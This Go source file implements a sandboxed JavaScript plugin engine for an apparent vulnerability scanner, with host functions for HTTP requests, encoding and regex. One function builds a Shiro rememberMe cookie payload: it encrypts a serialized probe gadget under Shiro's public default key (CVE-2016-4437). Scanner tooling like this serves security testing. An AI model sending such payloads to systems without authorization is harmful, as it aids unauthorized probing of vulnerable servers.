package pluginrt

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	cryptorand "crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"math/rand"
	"net/http"
	"net/url"
	"regexp"
	"time"

	"github.com/dop251/goja"

	"github.com/rshield/rshield/internal/errs"
)

// runTimeout bounds a single get_manifest() or analyze() call. A
// plugin that hangs (infinite loop, blocked host call) is interrupted
// rather than left to stall the scanner worker pool.
const runTimeout = 5 * time.Second

// Engine executes one plugin script per call in a fresh goja runtime.
// No state is shared between invocations, and no filesystem, process,
// or raw socket globals are ever registered — sandboxing by omission
// rather than by blocklist.
type Engine struct {
	// HTTPClient is used by the host-exposed http_request function.
	// Plugins never get direct access to net/http.
	HTTPClient *http.Client
}

// NewEngine constructs an Engine with a bounded-timeout HTTP client for
// the host API's http_request helper.
func NewEngine() *Engine {
	return &Engine{HTTPClient: &http.Client{Timeout: 10 * time.Second}}
}

// LoadManifest runs get_manifest() in script and validates the result.
func (e *Engine) LoadManifest(ctx context.Context, script string) (Manifest, error) {
	vm, err := e.newVM()
	if err != nil {
		return Manifest{}, err
	}
	if _, err := vm.RunString(script); err != nil {
		return Manifest{}, errs.Wrap(errs.Script, "load script", err)
	}

	fn, ok := goja.AssertFunction(vm.Get("get_manifest"))
	if !ok {
		return Manifest{}, errs.Wrap(errs.Script, "load script", fmt.Errorf("script does not define get_manifest()"))
	}

	result, err := e.callWithTimeout(ctx, vm, fn)
	if err != nil {
		return Manifest{}, errs.Wrap(errs.Script, "get_manifest()", err)
	}

	var m Manifest
	raw, err := json.Marshal(result.Export())
	if err != nil {
		return Manifest{}, fmt.Errorf("marshal manifest result: %w", err)
	}
	if err := json.Unmarshal(raw, &m); err != nil {
		return Manifest{}, fmt.Errorf("unmarshal manifest: %w", err)
	}
	if err := m.validate(); err != nil {
		return Manifest{}, err
	}
	return m, nil
}

// Analyze runs analyze(input) in script and returns the plugin's
// findings. A script that throws surfaces as an error, not a panic —
// the caller (a scanner worker) treats it the same as a network
// failure and keeps scanning.
func (e *Engine) Analyze(ctx context.Context, script string, input AnalyzeInput) ([]AnalyzeResult, error) {
	vm, err := e.newVM()
	if err != nil {
		return nil, err
	}
	if _, err := vm.RunString(script); err != nil {
		return nil, errs.Wrap(errs.Script, "load script", err)
	}

	fn, ok := goja.AssertFunction(vm.Get("analyze"))
	if !ok {
		return nil, errs.Wrap(errs.Script, "load script", fmt.Errorf("script does not define analyze()"))
	}

	inputVal := vm.ToValue(input)
	result, err := e.callWithTimeout(ctx, vm, fn, inputVal)
	if err != nil {
		return nil, errs.Wrap(errs.Script, "analyze()", err)
	}

	raw, err := json.Marshal(result.Export())
	if err != nil {
		return nil, fmt.Errorf("marshal analyze result: %w", err)
	}

	var single AnalyzeResult
	if err := json.Unmarshal(raw, &single); err == nil && len(raw) > 0 && raw[0] == '{' {
		return []AnalyzeResult{single}, nil
	}
	var many []AnalyzeResult
	if err := json.Unmarshal(raw, &many); err != nil {
		return nil, fmt.Errorf("analyze() must return an object or array of objects: %w", err)
	}
	return many, nil
}

func (e *Engine) callWithTimeout(ctx context.Context, vm *goja.Runtime, fn goja.Callable, args ...goja.Value) (goja.Value, error) {
	ctx, cancel := context.WithTimeout(ctx, runTimeout)
	defer cancel()

	type outcome struct {
		val goja.Value
		err error
	}
	done := make(chan outcome, 1)
	go func() {
		v, err := fn(goja.Undefined(), args...)
		done <- outcome{v, err}
	}()

	select {
	case o := <-done:
		return o.val, o.err
	case <-ctx.Done():
		vm.Interrupt("plugin execution timed out")
		<-done // drain so the goroutine above doesn't leak
		return nil, fmt.Errorf("execution exceeded %s", runTimeout)
	}
}

// newVM builds a fresh runtime with only the host API functions the
// spec's plugin surface names — no require(), no globals beyond these.
func (e *Engine) newVM() (*goja.Runtime, error) {
	vm := goja.New()

	must := func(name string, fn func(goja.FunctionCall) goja.Value) {
		if err := vm.Set(name, fn); err != nil {
			log.Printf("[pluginrt] failed to register host function %s: %v", name, err)
		}
	}

	must("http_request", func(call goja.FunctionCall) goja.Value {
		return e.hostHTTPRequest(vm, call)
	})
	must("base64_encode", func(call goja.FunctionCall) goja.Value {
		return vm.ToValue(base64.StdEncoding.EncodeToString([]byte(call.Argument(0).String())))
	})
	must("base64_decode", func(call goja.FunctionCall) goja.Value {
		data, err := base64.StdEncoding.DecodeString(call.Argument(0).String())
		if err != nil {
			return goja.Undefined()
		}
		return vm.ToValue(string(data))
	})
	must("url_encode", func(call goja.FunctionCall) goja.Value {
		return vm.ToValue(url.QueryEscape(call.Argument(0).String()))
	})
	jsonParse := func(call goja.FunctionCall) goja.Value {
		var v any
		if err := json.Unmarshal([]byte(call.Argument(0).String()), &v); err != nil {
			return goja.Undefined()
		}
		return vm.ToValue(v)
	}
	must("json_parse", jsonParse)
	must("parse_json", jsonParse) // alias used by some plugin scripts
	must("json_stringify", func(call goja.FunctionCall) goja.Value {
		raw, err := json.Marshal(call.Argument(0).Export())
		if err != nil {
			return goja.Undefined()
		}
		return vm.ToValue(string(raw))
	})
	// regex_matches(text, pattern) returns every non-overlapping match as
	// an array of strings; is_match(text, pattern) returns whether the
	// pattern matches at all.
	must("regex_matches", func(call goja.FunctionCall) goja.Value {
		re, err := regexp.Compile(call.Argument(1).String())
		if err != nil {
			return vm.ToValue([]string{})
		}
		matches := re.FindAllString(call.Argument(0).String(), -1)
		if matches == nil {
			matches = []string{}
		}
		return vm.ToValue(matches)
	})
	must("is_match", func(call goja.FunctionCall) goja.Value {
		re, err := regexp.Compile(call.Argument(1).String())
		if err != nil {
			return vm.ToValue(false)
		}
		return vm.ToValue(re.MatchString(call.Argument(0).String()))
	})
	must("is_map", func(call goja.FunctionCall) goja.Value {
		_, ok := call.Argument(0).Export().(map[string]any)
		return vm.ToValue(ok)
	})
	must("is_string", func(call goja.FunctionCall) goja.Value {
		_, ok := call.Argument(0).Export().(string)
		return vm.ToValue(ok)
	})
	must("now", func(call goja.FunctionCall) goja.Value {
		return vm.ToValue(time.Now().UnixMilli())
	})
	must("rand", func(call goja.FunctionCall) goja.Value {
		return vm.ToValue(rand.Float64())
	})
	must("print_debug", logFn("debug"))
	must("print_info", logFn("info"))
	must("print_warn", logFn("warn"))
	must("print_error", logFn("error"))
	must("generate_shiro_rce_payload", func(call goja.FunctionCall) goja.Value {
		return hostShiroPayload(vm, call)
	})

	return vm, nil
}

func logFn(level string) func(goja.FunctionCall) goja.Value {
	return func(call goja.FunctionCall) goja.Value {
		log.Printf("[pluginrt:%s] %s", level, call.Argument(0).String())
		return goja.Undefined()
	}
}

// httpRequestParams is the single json_params object http_request
// takes, mirroring the original's HttpRequestParams wire shape.
type httpRequestParams struct {
	URL             string            `json:"url"`
	Method          string            `json:"method"`
	Headers         map[string]string `json:"headers"`
	Params          map[string]string `json:"params"`
	Body            string            `json:"body"`
	Timeout         int               `json:"timeout"`
	ProxyURL        string            `json:"proxy_url"`
	FollowRedirects *bool             `json:"follow_redirects"`
	MaxRedirects    int               `json:"max_redirects"`
}

// httpResponsePayload is the JSON object http_request returns to the
// script, serialized by json_stringify conventions (a plain string,
// since plugin scripts parse it themselves with json_parse).
type httpResponsePayload struct {
	StatusCode int               `json:"status_code"`
	Headers    map[string]string `json:"headers"`
	Body       string            `json:"body"`
}

func httpErrorJSON(vm *goja.Runtime, msg string) goja.Value {
	raw, _ := json.Marshal(map[string]string{"error": msg})
	return vm.ToValue(string(raw))
}

// hostHTTPRequest implements the plugin-facing http_request(json_params)
// function: one JSON object carrying url/method/headers/params/body/
// timeout/proxy_url/follow_redirects/max_redirects, returning a JSON
// string of {status_code, headers, body} with multiple Set-Cookie
// response headers merged into a single JSON-array-valued header.
func (e *Engine) hostHTTPRequest(vm *goja.Runtime, call goja.FunctionCall) goja.Value {
	var params httpRequestParams
	if err := json.Unmarshal([]byte(call.Argument(0).String()), &params); err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("invalid request parameters: %v", err))
	}

	method := params.Method
	if method == "" {
		method = http.MethodGet
	}

	var body io.Reader
	if params.Body != "" {
		body = bytes.NewReader([]byte(params.Body))
	}
	req, err := http.NewRequest(method, params.URL, body)
	if err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("build request: %v", err))
	}
	for k, v := range params.Headers {
		req.Header.Set(k, v)
	}
	if len(params.Params) > 0 {
		q := req.URL.Query()
		for k, v := range params.Params {
			q.Set(k, v)
		}
		req.URL.RawQuery = q.Encode()
	}

	client := *e.HTTPClient
	if params.Timeout > 0 {
		client.Timeout = time.Duration(params.Timeout) * time.Second
	}
	if params.ProxyURL != "" {
		proxyURL, perr := url.Parse(params.ProxyURL)
		if perr != nil {
			return httpErrorJSON(vm, fmt.Sprintf("invalid proxy url: %v", perr))
		}
		transport := http.DefaultTransport.(*http.Transport).Clone()
		transport.Proxy = http.ProxyURL(proxyURL)
		client.Transport = transport
	}
	if params.FollowRedirects != nil && !*params.FollowRedirects {
		client.CheckRedirect = func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		}
	} else if params.MaxRedirects > 0 {
		max := params.MaxRedirects
		client.CheckRedirect = func(_ *http.Request, via []*http.Request) error {
			if len(via) >= max {
				return fmt.Errorf("stopped after %d redirects", max)
			}
			return nil
		}
	}

	resp, err := client.Do(req)
	if err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("request failed: %v", err))
	}
	defer resp.Body.Close()

	bodyBytes, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("read response body: %v", err))
	}

	headers := make(map[string]string, len(resp.Header))
	if cookies := resp.Header.Values("Set-Cookie"); len(cookies) > 1 {
		raw, _ := json.Marshal(cookies)
		headers["Set-Cookie"] = string(raw)
	}
	for k := range resp.Header {
		if http.CanonicalHeaderKey(k) == "Set-Cookie" {
			if _, merged := headers["Set-Cookie"]; merged {
				continue
			}
		}
		headers[k] = resp.Header.Get(k)
	}

	out, err := json.Marshal(httpResponsePayload{
		StatusCode: resp.StatusCode,
		Headers:    headers,
		Body:       string(bodyBytes),
	})
	if err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("serialize response: %v", err))
	}
	return vm.ToValue(string(out))
}

// shiroDefaultKeyBase64 is the default AES rememberMe cookie key Shiro
// shipped before 1.2.5 (CVE-2016-4437) — the key a vulnerable target
// still decrypts the probe gadget with.
const shiroDefaultKeyBase64 = "kPH+bIxk5D2deZiIxcaaaA=="

// shiroProbeGadget is a serialized
// org.apache.shiro.subject.SimplePrincipalCollection, the payload
// ysoserial-style Shiro probes encrypt and send as the rememberMe
// cookie: a target decrypting it under the default key responds
// differently (no deserialization error) than one using a custom key.
var shiroProbeGadget = []byte{
	172, 237, 0, 5, 115, 114, 0, 50, 111, 114, 103, 46, 97, 112, 97, 99,
	104, 101, 46, 115, 104, 105, 114, 111, 46, 115, 117, 98, 106, 101,
	99, 116, 46, 83, 105, 109, 112, 108, 101, 80, 114, 105, 110, 99,
	105, 112, 97, 108, 67, 111, 108, 108, 101, 99, 116, 105, 111, 110,
	168, 127, 88, 37, 198, 163, 8, 74, 3, 0, 1, 76, 0, 15, 114, 101, 97,
	108, 109, 80, 114, 105, 110, 99, 105, 112, 97, 108, 115, 116, 0,
	15, 76, 106, 97, 118, 97, 47, 117, 116, 105, 108, 47, 77, 97, 112,
	59, 120, 112, 112, 119, 1, 0, 120,
}

type shiroPayloadParams struct {
	Key string `json:"key"` // optional base64 AES key override
}

// hostShiroPayload implements generate_shiro_rce_payload(json_params),
// the Shiro-style gadget payload builder spec §4.4 names: it AES-CBC
// encrypts shiroProbeGadget under the given (or Shiro's well-known
// default) key with a random IV and returns base64(iv || ciphertext),
// ready to send as a rememberMe cookie.
func hostShiroPayload(vm *goja.Runtime, call goja.FunctionCall) goja.Value {
	var params shiroPayloadParams
	if arg := call.Argument(0); !goja.IsUndefined(arg) && !goja.IsNull(arg) {
		if err := json.Unmarshal([]byte(arg.String()), &params); err != nil {
			return httpErrorJSON(vm, fmt.Sprintf("invalid request parameters: %v", err))
		}
	}
	keyB64 := params.Key
	if keyB64 == "" {
		keyB64 = shiroDefaultKeyBase64
	}

	key, err := base64.StdEncoding.DecodeString(keyB64)
	if err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("invalid base64 key: %v", err))
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("build cipher: %v", err))
	}

	padded := pkcs5Pad(shiroProbeGadget, aes.BlockSize)
	out := make([]byte, aes.BlockSize+len(padded))
	iv := out[:aes.BlockSize]
	if _, err := io.ReadFull(cryptorand.Reader, iv); err != nil {
		return httpErrorJSON(vm, fmt.Sprintf("generate iv: %v", err))
	}
	cipher.NewCBCEncrypter(block, iv).CryptBlocks(out[aes.BlockSize:], padded)

	return vm.ToValue(base64.StdEncoding.EncodeToString(out))
}

func pkcs5Pad(data []byte, blockSize int) []byte {
	padLen := blockSize - len(data)%blockSize
	return append(append([]byte{}, data...), bytes.Repeat([]byte{byte(padLen)}, padLen)...)
}
